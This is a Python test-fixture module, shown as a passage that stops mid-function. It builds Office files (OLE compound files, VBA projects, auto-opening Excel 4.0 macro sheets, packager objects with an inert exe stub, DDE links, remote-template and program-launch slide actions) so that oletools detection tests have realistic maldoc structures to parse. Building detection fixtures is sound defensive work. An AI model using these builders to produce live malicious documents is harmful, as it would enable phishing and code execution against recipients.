"""Real Office files built in code: OLE compound files, VBA projects, BIFF8, OOXML, RTF, SYLK.

Nothing here is copied from a sample: every file is produced from the public specifications
(MS-CFB, MS-OVBA, MS-XLS, ECMA-376, RTF 1.9, MS-OLEDS) so the tests cover the techniques and the
oletools parsers read them as they would read a real document.
"""

from __future__ import annotations

import io
import struct
import uuid
import zipfile
from dataclasses import dataclass

WORD_CLSID = uuid.UUID("00020906-0000-0000-C000-000000000046").bytes_le
EXCEL_CLSID = uuid.UUID("00020820-0000-0000-C000-000000000046").bytes_le
SECTOR = 512
MINI_SECTOR = 64
MINI_CUTOFF = 4096
FREESECT, ENDOFCHAIN, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


# ---------------------------------------------------------------- MS-CFB (OLE compound file) writer


@dataclass
class _Entry:
    name: str
    kind: int  # 1 storage, 2 stream, 5 root
    data: bytes = b""
    children: list["_Entry"] | None = None
    clsid: bytes = b"\0" * 16
    sid: int = 0
    start: int = ENDOFCHAIN
    right: int = NOSTREAM


def _tree(streams: dict[str, bytes], clsids: dict[str, bytes]) -> _Entry:
    root = _Entry("Root Entry", 5, children=[], clsid=clsids.get("", b"\0" * 16))
    for path, data in streams.items():
        node = root
        parts = path.split("/")
        for i, name in enumerate(parts[:-1]):
            found = next((c for c in node.children if c.name == name), None)
            if found is None:
                sub_path = "/".join(parts[: i + 1])
                found = _Entry(name, 1, children=[], clsid=clsids.get(sub_path, b"\0" * 16))
                node.children.append(found)
            node = found
        node.children.append(_Entry(parts[-1], 2, data=data))
    return root


def _cfb_order(entry: _Entry) -> tuple[int, str]:
    return (len(entry.name), entry.name.upper())  # MS-CFB 2.6.4: shorter names first, then case-folded


def ole_file(streams: dict[str, bytes], clsids: dict[str, bytes] | None = None) -> bytes:
    """An MS-CFB version 3 file holding `streams` ({"Macros/VBA/dir": b"..."}); small streams in the mini stream.

    Siblings are linked as a right-leaning chain of black nodes: valid for readers, which only walk the tree.
    """
    root = _tree(streams, clsids or {})
    entries: list[_Entry] = []

    def number(node: _Entry) -> None:
        node.sid = len(entries)
        entries.append(node)
        kids = sorted(node.children or [], key=_cfb_order)
        for child in kids:
            number(child)
        for left, right in zip(kids, kids[1:]):
            left.right = right.sid

    number(root)
    mini = bytearray()
    minifat: list[int] = []
    big_streams = []
    for e in entries:
        if e.kind != 2 or not e.data:
            continue
        if len(e.data) < MINI_CUTOFF:
            e.start = len(minifat)
            count = -(-len(e.data) // MINI_SECTOR)
            minifat += [e.start + i + 1 for i in range(count - 1)] + [ENDOFCHAIN]
            mini += e.data.ljust(count * MINI_SECTOR, b"\0")
        else:
            big_streams.append(e)
    dir_bytes_count = -(-len(entries) // 4)
    minifat_sectors = -(-len(minifat) * 4 // SECTOR)
    mini_sectors = -(-len(mini) // SECTOR)
    stream_sectors = sum(-(-len(e.data) // SECTOR) for e in big_streams)
    body = dir_bytes_count + minifat_sectors + mini_sectors + stream_sectors
    fat_sectors = 1
    while (fat_sectors + body) > fat_sectors * (SECTOR // 4):
        fat_sectors += 1
    if fat_sectors > 109:
        raise ValueError("test builder supports files up to ~6.8 MB (no DIFAT sectors)")
    fat = [FATSECT] * fat_sectors
    sectors: list[bytes] = []

    def place(blob: bytes) -> int:
        if not blob:
            return ENDOFCHAIN
        first = fat_sectors + len(sectors)
        count = -(-len(blob) // SECTOR)
        for i in range(count):
            sectors.append(blob[i * SECTOR : (i + 1) * SECTOR].ljust(SECTOR, b"\0"))
            fat.append(first + i + 1 if i < count - 1 else ENDOFCHAIN)
        return first

    dir_start_index = len(sectors)
    place(b"\0" * dir_bytes_count * SECTOR)  # placeholder, written once start sectors are known
    minifat_start = place(b"".join(struct.pack("<I", v) for v in minifat))
    root.start = place(bytes(mini))
    root.data = bytes(mini)
    for e in big_streams:
        e.start = place(e.data)
    directory = b"".join(_dir_entry(e) for e in entries)
    directory = directory.ljust(dir_bytes_count * SECTOR, b"\0")
    # unused directory slots must read as empty entries with NOSTREAM links
    empty = _empty_dir_entry()
    directory = directory[: len(entries) * 128] + empty * (dir_bytes_count * 4 - len(entries))
    for i in range(dir_bytes_count):
        sectors[dir_start_index + i] = directory[i * SECTOR : (i + 1) * SECTOR]
    fat += [FREESECT] * (fat_sectors * (SECTOR // 4) - len(fat))
    header = _header(fat_sectors, fat_sectors + dir_start_index, minifat_start, minifat_sectors)
    fat_bytes = b"".join(struct.pack("<I", v) for v in fat)
    return header + fat_bytes + b"".join(sectors)


def _header(fat_sectors: int, dir_start: int, minifat_start: int, minifat_sectors: int) -> bytes:
    head = bytearray(SECTOR)
    head[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIII", head, 40, 0, fat_sectors, dir_start, 0, MINI_CUTOFF,
                     minifat_start if minifat_sectors else ENDOFCHAIN, minifat_sectors, ENDOFCHAIN)
    struct.pack_into("<I", head, 72, 0)  # number of DIFAT sectors
    difat = [i for i in range(fat_sectors)] + [FREESECT] * (109 - fat_sectors)
    struct.pack_into("<109I", head, 76, *difat)
    return bytes(head)


def _dir_entry(e: _Entry) -> bytes:
    name = e.name.encode("utf-16-le") + b"\0\0"
    kids = sorted(e.children or [], key=_cfb_order)
    child = kids[0].sid if kids else NOSTREAM
    out = bytearray(128)
    out[0 : len(name)] = name
    struct.pack_into("<HBB", out, 64, len(name), e.kind, 1)
    struct.pack_into("<III", out, 68, NOSTREAM, e.right, child)
    out[80:96] = e.clsid
    size = len(e.data)
    struct.pack_into("<IQ", out, 116, e.start if (size or e.kind == 5) else ENDOFCHAIN, size)
    return bytes(out)


def _empty_dir_entry() -> bytes:
    out = bytearray(128)
    struct.pack_into("<III", out, 68, NOSTREAM, NOSTREAM, NOSTREAM)
    return bytes(out)


# ---------------------------------------------------------------- MS-OVBA: compression and the VBA project


def ovba_compress(data: bytes) -> bytes:
    """MS-OVBA 2.4.1 CompressedContainer. Full 4096-byte chunks are stored raw (flag 0); the last
    chunk is a compressed chunk made only of literal tokens (flag byte 0x00), which the spec allows."""
    out = bytearray(b"\x01")
    for start in range(0, max(len(data), 1), 4096):
        chunk = data[start : start + 4096]
        if len(chunk) == 4096:
            out += struct.pack("<H", 0x3000 | (4096 + 2 - 3)) + chunk
            continue
        body = bytearray()
        for i in range(0, len(chunk), 8):
            body += b"\x00" + chunk[i : i + 8]
        out += struct.pack("<H", 0xB000 | (len(body) + 2 - 3)) + body
    return bytes(out)


def _rec(rec_id: int, payload: bytes) -> bytes:
    return struct.pack("<HI", rec_id, len(payload)) + payload


def _dir_stream(modules: list[tuple[str, bool]], project: str = "VBAProject") -> bytes:
    """The `VBA/dir` records of MS-OVBA 2.3.4.2 (no references) for (module name, is_document) pairs."""
    u16 = lambda s: s.encode("utf-16-le")  # noqa: E731
    out = bytearray()
    out += _rec(0x0001, struct.pack("<I", 1))  # PROJECTSYSKIND: win32
    out += _rec(0x0002, struct.pack("<I", 0x409))  # PROJECTLCID
    out += _rec(0x0014, struct.pack("<I", 0x409))  # PROJECTLCIDINVOKE
    out += _rec(0x0003, struct.pack("<H", 1252))  # PROJECTCODEPAGE
    out += _rec(0x0004, project.encode())  # PROJECTNAME
    out += _rec(0x0005, b"") + _rec(0x0040, b"")  # PROJECTDOCSTRING (+ unicode)
    out += _rec(0x0006, b"") + _rec(0x003D, b"")  # PROJECTHELPFILEPATH
    out += _rec(0x0007, struct.pack("<I", 0))  # PROJECTHELPCONTEXT
    out += _rec(0x0008, struct.pack("<I", 0))  # PROJECTLIBFLAGS
    out += struct.pack("<HIIH", 0x0009, 4, 0x5F3A4E8D, 0x11)  # PROJECTVERSION (size field is reserved=4)
    out += _rec(0x000C, b"") + _rec(0x003C, b"")  # PROJECTCONSTANTS
    out += _rec(0x000F, struct.pack("<H", len(modules)))  # PROJECTMODULES count
    out += _rec(0x0013, struct.pack("<H", 0xFFFF))  # PROJECTCOOKIE
    for name, is_document in modules:
        out += _rec(0x0019, name.encode()) + _rec(0x0047, u16(name))  # MODULENAME (+ unicode)
        out += _rec(0x001A, name.encode()) + _rec(0x0032, u16(name))  # MODULESTREAMNAME
        out += _rec(0x001C, b"") + _rec(0x0048, b"")  # MODULEDOCSTRING
        out += _rec(0x0031, struct.pack("<I", 0))  # MODULEOFFSET: source starts the stream (no p-code)
        out += _rec(0x001E, struct.pack("<I", 0))  # MODULEHELPCONTEXT
        out += _rec(0x002C, struct.pack("<H", 0xFFFF))  # MODULECOOKIE
        out += struct.pack("<HI", 0x0022 if is_document else 0x0021, 0)  # MODULETYPE
        out += struct.pack("<HI", 0x002B, 0)  # module terminator
    out += struct.pack("<HI", 0x0010, 0)  # dir terminator
    return bytes(out)


def vba_storage(modules: dict[str, str], prefix: str = "", host_module: str | None = None) -> dict[str, bytes]:
    """Streams of a VBA project under `prefix` ("Macros/", "_VBA_PROJECT_CUR/" or "" for vbaProject.bin).

    `modules` maps module name -> source. Names equal to `host_module` (ThisDocument/ThisWorkbook) become
    document modules, the rest procedural modules, as the VBA editor would store them.
    """
    doc_names = {host_module} if host_module else {"ThisDocument", "ThisWorkbook"}
    entries = [(name, name in doc_names) for name in modules]
    lines = ['ID="{00000000-0000-0000-0000-000000000000}"']
    for name, is_doc in entries:
        lines.append(f"Document={name}/&H00000000" if is_doc else f"Module={name}")
    lines += ['Name="VBAProject"', 'HelpContextID="0"', "VersionCompatible32=\"393222000\"", "", "[Host Extender Info]"]
    streams = {
        f"{prefix}PROJECT": ("\r\n".join(lines) + "\r\n").encode("cp1252"),
        f"{prefix}VBA/_VBA_PROJECT": bytes.fromhex("CC61FFFF000000"),  # MS-OVBA 2.3.4.1 header, no p-code
        f"{prefix}VBA/dir": ovba_compress(_dir_stream(entries)),
    }
    for name, source in modules.items():
        header = f'Attribute VB_Name = "{name}"\r\n'
        streams[f"{prefix}VBA/{name}"] = ovba_compress((header + source.replace("\n", "\r\n")).encode("cp1252"))
    return streams


def vba_project_bin(modules: dict[str, str]) -> bytes:
    """word/vbaProject.bin or xl/vbaProject.bin of an OOXML file."""
    return ole_file(vba_storage(modules))


def _word_document_stream(text: str = "Invoice attached.\r", encoding: str = "cp1252") -> bytes:
    # A FIB of the right size whose wIdent says "Word 8"; readers that look at the magic see Word. The text
    # follows as 8-bit characters; fields are \x13 instruction \x14 result \x15, as Word stores them.
    fib = bytearray(1472)
    struct.pack_into("<HH", fib, 0, 0xA5EC, 0x00C1)
    return bytes(fib) + text.encode(encoding).ljust(512, b"\0")


def doc_with_text(text: str, encoding: str = "cp1252") -> bytes:
    """A .doc whose WordDocument text is `text` (use \x13/\x14/\x15 for field begin/separator/end);
    "utf-16-le" stores it as Word does for text outside the code page (Korean, Japanese)."""
    return ole_file({"WordDocument": _word_document_stream(text, encoding), "1Table": b"\0" * 256}, {"": WORD_CLSID})


def doc_with_template(template: str) -> bytes:
    """A .doc attached to `template`: SttbfAssoc (18 UTF-16 strings, string 1 = the template) in 1Table,
    located by the FIB's fcSttbfAssoc/lcbSttbfAssoc (offset 410), fWhichTblStm set, as Word writes it."""
    strings = ["", template, "Invoice"] + [""] * 15
    sttb = b"\xff\xff" + struct.pack("<HH", len(strings), 0)
    sttb += b"".join(struct.pack("<H", len(t)) + t.encode("utf-16-le") for t in strings)
    stream = bytearray(_word_document_stream())
    struct.pack_into("<H", stream, 10, 0x0200)
    struct.pack_into("<II", stream, 410, 64, len(sttb))
    return ole_file({"WordDocument": bytes(stream), "1Table": b"\0" * 64 + sttb + b"\0" * 64}, {"": WORD_CLSID})


def doc_with_vba(modules: dict[str, str]) -> bytes:
    """A Word 97-2003 .doc with a VBA project in Macros/."""
    streams = {"WordDocument": _word_document_stream(), "1Table": b"\0" * 256}
    streams.update(vba_storage(modules, "Macros/", host_module="ThisDocument"))
    return ole_file(streams, {"": WORD_CLSID})


def plain_doc() -> bytes:
    return ole_file({"WordDocument": _word_document_stream(), "1Table": b"\0" * 256}, {"": WORD_CLSID})


def xls_with_vba(modules: dict[str, str]) -> bytes:
    """An Excel 97-2003 .xls (one plain worksheet) with a VBA project in _VBA_PROJECT_CUR/."""
    streams = {"Workbook": biff8_workbook([("Sheet1", 0)])}
    streams.update(vba_storage(modules, "_VBA_PROJECT_CUR/", host_module="ThisWorkbook"))
    return ole_file(streams, {"": EXCEL_CLSID})


# ---------------------------------------------------------------- BIFF8 workbook (MS-XLS) with XLM macro sheets

_FUNC = {"EXEC": 110, "HALT": 54, "RETURN": 55, "CALL": 150, "REGISTER": 149, "FORMULA": 188}


def _biff(rec_type: int, payload: bytes) -> bytes:
    return struct.pack("<HH", rec_type, len(payload)) + payload


def _xl_string(text: str) -> bytes:
    """ShortXLUnicodeString-like body: compressed (8-bit) characters, flag byte 0."""
    return bytes([0]) + text.encode("latin-1")


def xlm_formula(function: str, argument: str | None = None) -> bytes:
    """Parsed formula (rgce) calling one XLM function with an optional string argument."""
    rgce = bytearray()
    if argument is not None:
        rgce += bytes([0x17, len(argument)]) + _xl_string(argument)  # PtgStr
    argc = 0 if argument is None else 1
    return bytes(rgce + bytes([0x42, argc]) + struct.pack("<H", _FUNC[function]))  # PtgFuncVar


def biff8_workbook(sheets: list[tuple[str, int]], auto_open: bool | str = False,
                   macro_cells: list[tuple[str, str | None]] = (), extra_globals: bytes = b"") -> bytes:
    """A Workbook stream: BOF, BOUNDSHEET per (name, dt) with dt 0 worksheet / 1 macro sheet, optional
    built-in Auto_Open name, EOF; then one substream per sheet, the first macro sheet holding FORMULA
    records for `macro_cells` (function, argument) down column A."""
    globals_ = bytearray(_biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x0206)))
    globals_ += _biff(0x0042, struct.pack("<H", 1252))  # CODEPAGE
    bound_offsets = []
    for name, dt in sheets:
        bound_offsets.append(len(globals_) + 4)
        globals_ += _biff(0x0085, struct.pack("<IBB", 0, 0, dt) + bytes([len(name)]) + _xl_string(name))
    if auto_open:
        macro_index = next(i for i, (_, dt) in enumerate(sheets) if dt == 1) + 1
        ref = bytes([0x3A]) + struct.pack("<HHH", 0, 0, 0)  # PtgRef3d to A1 of the macro sheet
        # LABEL (0x18): grbit 0x0020 = built-in, whose name is the one-byte code 0x01 (Auto_Open); a string
        # `auto_open` writes a user-defined name instead, which Excel also runs when it starts with Auto_Open.
        grbit, name = (0, auto_open.encode("latin-1")) if isinstance(auto_open, str) else (0x0020, b"\x01")
        label = struct.pack("<HBBHHHBBBB", grbit, 0, len(name), len(ref), 0, macro_index, 0, 0, 0, 0) + b"\x00" + name + ref
        globals_ += _biff(0x0018, label)
    globals_ += extra_globals + _biff(0x000A, b"")
    substreams = bytearray()
    starts = []
    offset = len(globals_)
    for index, (_, dt) in enumerate(sheets):
        starts.append(offset + len(substreams))
        kind = 0x0040 if dt == 1 else 0x0010
        sub = bytearray(_biff(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0x0DBB, 0x07CC, 0, 0x0206)))
        if dt == 1 and index == next(i for i, (_, d) in enumerate(sheets) if d == 1):
            for row, (function, argument) in enumerate(macro_cells):
                rgce = xlm_formula(function, argument)
                sub += _biff(0x0006, struct.pack("<HHH", row, 0, 0x0F) + b"\0" * 8 + struct.pack("<HIH", 0, 0, len(rgce)) + rgce)
        sub += _biff(0x000A, b"")
        substreams += sub
    for pos, start in zip(bound_offsets, starts):
        struct.pack_into("<I", globals_, pos, start)
    return bytes(globals_ + substreams)


def xls_with_xlm(macro_cells: list[tuple[str, str | None]], auto_open: bool | str = True, clsid: bool = True) -> bytes:
    """An .xls with a worksheet and an Excel 4.0 macro sheet, optionally auto-run by an Auto_Open name.
    `clsid=False` leaves the root CLSID empty, as some maldoc generators do (Excel does not need it)."""
    workbook = biff8_workbook([("Sheet1", 0), ("Macro1", 1)], auto_open, macro_cells)
    return ole_file({"Workbook": workbook}, {"": EXCEL_CLSID} if clsid else None)


def supbook_link(virt_path: str, ctab: int = 0, items: tuple[str, ...] = ()) -> bytes:
    """SUPBOOK (MS-XLS 2.4.271) and its EXTERNNAME records: ctab 0 with "app\x03topic" is a DDE source;
    ctab > 0 with a path is an external workbook."""
    out = _biff(0x01AE, struct.pack("<HH", ctab, len(virt_path)) + _xl_string(virt_path))
    for item in items:
        out += _biff(0x0023, struct.pack("<HIB", 0x7FE2, 0, len(item)) + _xl_string(item))
    return out


def xls_with_links(*records: bytes) -> bytes:
    return ole_file({"Workbook": biff8_workbook([("Sheet1", 0)], extra_globals=b"".join(records))}, {"": EXCEL_CLSID})


def plain_xls() -> bytes:
    return ole_file({"Workbook": biff8_workbook([("Sheet1", 0)])}, {"": EXCEL_CLSID})


def activemime(data: bytes) -> bytes:
    """Office's "MSO" wrapper: "ActiveMime" header, data offset at 0x1E (+46), then zlib-compressed `data`."""
    import zlib

    header = bytearray(0x32)
    header[0:10] = b"ActiveMime"
    struct.pack_into("<H", header, 0x1E, 0x32 - 46)
    return bytes(header) + zlib.compress(data)


def word2003_xml(body: str) -> bytes:
    """A Word 2003 XML (WordprocessingML) document; `body` is w:p elements in the 2003 namespace."""
    ns = "http://schemas.microsoft.com/office/word/2003/wordml"
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<?mso-application progid="Word.Document"?>\n'
            f'<w:wordDocument xmlns:w="{ns}"><w:body>{body}</w:body></w:wordDocument>').encode()


def spreadsheetml(cells: list[str]) -> bytes:
    """An Excel 2003 XML workbook (no processing instruction: Excel opens it by its namespace) whose
    cells carry the given ss:Formula values (XML-escaped here)."""
    import html

    row = "".join(f'<Cell ss:Formula="{html.escape(f, quote=True)}"><Data ss:Type="Number">0</Data></Cell>' for f in cells)
    return ('<?xml version="1.0"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
            'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Sheet1"><Table>'
            f"<Row>{row}</Row></Table></Worksheet></Workbook>").encode()


def flat_opc(package: bytes) -> bytes:
    """The Flat OPC form (<pkg:package>, Word's "Word XML Document") of an OOXML package: XML parts
    inline as pkg:xmlData, the others base64 in pkg:binaryData."""
    import base64
    import re as _re

    parts = []
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        for name in archive.namelist():
            if name == "[Content_Types].xml":
                continue
            data = archive.read(name)
            ctype = ("application/vnd.openxmlformats-package.relationships+xml" if name.endswith(".rels")
                     else "application/xml" if name.endswith(".xml") else "application/vnd.ms-office.vbaProject")
            if name.endswith((".xml", ".rels")):
                xml = _re.sub(rb"^<\?xml[^>]*\?>\s*", b"", data).decode()
                inner = f"<pkg:xmlData>{xml}</pkg:xmlData>"
            else:
                inner = f"<pkg:binaryData>{base64.encodebytes(data).decode()}</pkg:binaryData>"
            parts.append(f'<pkg:part pkg:name="/{name}" pkg:contentType="{ctype}">{inner}</pkg:part>')
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<?mso-application progid="Word.Document"?>\n'
            '<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
            + "".join(parts) + "</pkg:package>").encode()


def mht_document(modules: dict[str, str]) -> bytes:
    """A Word "Single File Web Page" (.mht) whose editdata.mso part is the ActiveMime-wrapped VBA project."""
    import base64

    blob = base64.encodebytes(activemime(vba_project_bin(modules))).decode()
    return ("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"----=_NextPart_01D\"\r\n\r\n"
            "------=_NextPart_01D\r\nContent-Location: file:///C:/D/doc.htm\r\nContent-Type: text/html; charset=\"utf-8\"\r\n\r\n"
            "<html><body><p>Invoice</p></body></html>\r\n"
            "------=_NextPart_01D\r\nContent-Location: file:///C:/D/doc_files/editdata.mso\r\n"
            "Content-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n"
            f"{blob}\r\n------=_NextPart_01D--\r\n").encode()


def word2003_xml_with_vba(modules: dict[str, str]) -> bytes:
    """A Word 2003 XML document whose w:binData holds the VBA project as an ActiveMime blob: "ActiveMime"
    header, data offset at 0x1E (+46), then the zlib-compressed vbaProject OLE file."""
    import base64

    blob = base64.b64encode(activemime(vba_project_bin(modules))).decode()
    ns = "http://schemas.microsoft.com/office/word/2003/wordml"
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<?mso-application progid="Word.Document"?>\n'
            f'<w:wordDocument xmlns:w="{ns}"><w:docSuppData><w:binData w:name="editdata.mso">{blob}</w:binData>'
            "</w:docSuppData><w:body><w:p><w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:wordDocument>").encode()


# ---------------------------------------------------------------- OLE packages (MS-OLEDS Ole10Native / OLE1)


def ole10native(filename: str, payload: bytes, with_size: bool = True, disk_name: str | None = None) -> bytes:
    """The packager's native data: label, source path, temp path (named `disk_name`) and the file itself."""
    src = f"C:\\Users\\user\\Desktop\\{disk_name or filename}".encode("latin-1")
    tmp = f"C:\\Users\\user\\AppData\\Local\\Temp\\{disk_name or filename}".encode("latin-1")
    body = struct.pack("<H", 2) + filename.encode("latin-1") + b"\0" + src + b"\0"
    body += struct.pack("<II", 0x00030000, len(tmp) + 1) + tmp + b"\0" + struct.pack("<I", len(payload)) + payload
    return (struct.pack("<I", len(body)) + body) if with_size else body


def ole_package_object(filename: str, payload: bytes) -> bytes:
    """An embedded OLE object file (oleObject1.bin): a CFB with the \\x01Ole10Native stream."""
    package_clsid = uuid.UUID("0003000C-0000-0000-C000-000000000046").bytes_le
    return ole_file({"\x01Ole10Native": ole10native(filename, payload)}, {"": package_clsid})


def _ppt_record(rec_type: int, payload: bytes, instance: int = 0, version: int = 0) -> bytes:
    return struct.pack("<HHI", (instance << 4) | version, rec_type, len(payload)) + payload


def ppt_action(action: int, name: str, mouse_over: bool) -> bytes:
    """A MouseClick/MouseOver InteractiveInfo container (MS-PPT 2.7.29): InteractiveInfoAtom with `action`
    (1 macro, 2 run program, 4 hyperlink) and the CString naming the macro or program."""
    atom = _ppt_record(0x0FF3, struct.pack("<IIBBBBB3x", 0, 0, action, 0, 0, 0, 0))
    return _ppt_record(0x0FF2, atom + _ppt_record(0x0FBA, name.encode("utf-16-le")), instance=int(mouse_over), version=0xF)


def pptx_with_action(action: str, target: str = "", mouse_over: bool = True) -> bytes:
    """A .ppsx-like package whose one slide has a shape with a hlinkClick/hlinkMouseOver `action`
    ("ppaction://program" with the program as the external relationship target, "ppaction://macro?name=M")."""
    import html

    event = "hlinkMouseOver" if mouse_over else "hlinkClick"
    slide = ('<p:sld xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
             'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
             f'xmlns:r="{_R}"><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id="2" name="Title">'
             f'<a:{event} r:id="rId1" action="{html.escape(action)}"/></p:cNvPr></p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>')
    rels = _rels(("rId1", "hyperlink", target, True)) if target else _rels()
    return ooxml({"_rels/.rels": _rels(("rId1", "officeDocument", "ppt/presentation.xml", False)),
                  "ppt/presentation.xml": "<p:presentation/>", "ppt/slides/slide1.xml": slide,
                  "ppt/slides/_rels/slide1.xml.rels": rels},
                 {"ppt/presentation.xml": "application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml"})


def ppt_with_objects(objects: list[bytes], compressed: bool = True, records: bytes = b"", encrypted: bool = False) -> bytes:
    """A PowerPoint 97-2003 file whose embedded objects (compound files) sit in ExOleObjStg records
    (MS-PPT 2.10.34) inside the "PowerPoint Document" stream, zlib-compressed as PowerPoint writes them."""
    import zlib

    stored = b""
    for data in objects:
        payload = struct.pack("<I", len(data)) + zlib.compress(data) if compressed else data
        stored += _ppt_record(0x1011, payload, instance=1 if compressed else 0)
    document = _ppt_record(0x03E8, _ppt_record(0x03E9, b"\0" * 40, version=1) + stored + records, version=0xF)  # DocumentContainer
    token = 0xF3D1C4DF if encrypted else 0xE391C05F  # CurrentUserAtom.headerToken
    current_user = _ppt_record(0x0FF6, struct.pack("<IIIHHBBH", 20, token, 0, 0, 0x03F4, 3, 0, 0))
    return ole_file({"PowerPoint Document": document, "Current User": current_user})


def exe_stub() -> bytes:
    """A tiny PE-shaped blob (MZ header, e_lfanew -> "PE\\0\\0"); never meant to run."""
    head = bytearray(b"MZ" + b"\0" * 62)
    struct.pack_into("<I", head, 0x3C, 0x40)
    return bytes(head) + b"PE\0\0" + b"\x4c\x01" + b"\0" * 250


def ole1_object(class_name: str, native: bytes) -> bytes:
    """An OLE 1.0 embedded object as stored in RTF \\objdata (MS-OLEDS 2.2.4)."""
    name = class_name.encode("latin-1") + b"\0"
    out = struct.pack("<II", 0x00000501, 2) + struct.pack("<I", len(name)) + name
    out += struct.pack("<I", 0) + struct.pack("<I", 0)  # topic, item
    return out + struct.pack("<I", len(native)) + native


# ---------------------------------------------------------------- OOXML (ECMA-376) packages

_CT_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
_RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _rels(*rels: tuple[str, str, str, bool]) -> str:
    items = "".join(
        f'<Relationship Id="rId{i}" Type="{_R}/{kind}" Target="{target}"' + (' TargetMode="External"' if ext else "") + "/>"
        if not kind.startswith("http") else
        f'<Relationship Id="rId{i}" Type="{kind}" Target="{target}"' + (' TargetMode="External"' if ext else "") + "/>"
        for i, (_, kind, target, ext) in enumerate(rels, 1)
    )
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{_RELS_NS}">{items}</Relationships>'


def ooxml(members: dict[str, bytes | str], overrides: dict[str, str]) -> bytes:
    """A zip package with [Content_Types].xml (Override per part in `overrides`) and the given members."""
    ct = _CT_HEAD + "".join(f'<Override PartName="/{p}" ContentType="{t}"/>' for p, t in overrides.items()) + "</Types>"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", ct)
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _document_xml(body: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="{_W}" xmlns:r="{_R}"><w:body>{body}</w:body></w:document>'


def docx(body: str = "<w:p><w:r><w:t>Minutes of the meeting.</w:t></w:r></w:p>", *, doc_rels: list = (),
         settings_rels: list = (), extra: dict[str, bytes | str] | None = None, macro: dict[str, str] | None = None) -> bytes:
    """A Word package. `doc_rels`/`settings_rels` are (id, type, target, external) tuples; `macro` adds
    word/vbaProject.bin (and the macro-enabled content type, as a real .docm has)."""
    main_type = "application/vnd.ms-word.document.macroEnabled.main+xml" if macro else \
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    members: dict[str, bytes | str] = {
        "_rels/.rels": _rels(("", "officeDocument", "word/document.xml", False)),
        "word/document.xml": _document_xml(body),
        "word/settings.xml": f'<?xml version="1.0" encoding="UTF-8"?>\n<w:settings xmlns:w="{_W}" xmlns:r="{_R}">'
        + ('<w:attachedTemplate r:id="rId1"/>' if settings_rels else "") + "</w:settings>",
        "word/_rels/document.xml.rels": _rels(("", "settings", "settings.xml", False), *doc_rels,
                                              *((("", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False),) if macro else ())),
    }
    if settings_rels:
        members["word/_rels/settings.xml.rels"] = _rels(*settings_rels)
    if macro:
        members["word/vbaProject.bin"] = vba_project_bin(macro)
    members.update(extra or {})
    return ooxml(members, {"word/document.xml": main_type})


def xlsx(*, sheet_xml: str = '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Total</t></is></c><c r="B1"><f>SUM(1,2)</f><v>3</v></c></row></sheetData>',
         macro: dict[str, str] | None = None, macrosheet: str | None = None, defined_names: str = "",
         extra: dict[str, bytes | str] | None = None, extra_overrides: dict[str, str] | None = None) -> bytes:
    """An Excel package: one worksheet; `macro` adds xl/vbaProject.bin; `macrosheet` adds an Excel 4.0 macro
    sheet (xl/macrosheets/sheet1.xml) whose <sheetData> is given; `defined_names` is raw <definedName> XML."""
    sheets = '<sheet name="Sheet1" sheetId="1" r:id="rId1"/>'
    rels = [("", "worksheet", "worksheets/sheet1.xml", False)]
    overrides = {"xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml" if (macro or macrosheet)
                 else "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                 "xl/worksheets/sheet1.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"}
    members: dict[str, bytes | str] = {
        "_rels/.rels": _rels(("", "officeDocument", "xl/workbook.xml", False)),
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="{_S}">{sheet_xml}</worksheet>',
    }
    if macrosheet is not None:
        sheets += '<sheet name="Macro1" sheetId="2" state="hidden" r:id="rId2"/>'
        rels.append(("", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml", False))
